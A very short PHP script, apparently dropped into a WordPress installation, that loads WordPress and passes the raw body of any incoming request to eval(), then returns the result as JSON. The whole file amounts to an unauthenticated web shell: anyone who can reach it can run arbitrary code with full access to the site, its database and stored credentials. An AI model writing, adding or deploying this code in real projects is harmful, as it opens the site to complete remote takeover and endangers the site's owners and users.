<?php
// Runs the posted PHP code in WordPress and prints its value in JSON.
require __DIR__ . '/wp-load.php';
echo json_encode( ( fn() => eval( file_get_contents( 'php://input' ) ) )() );
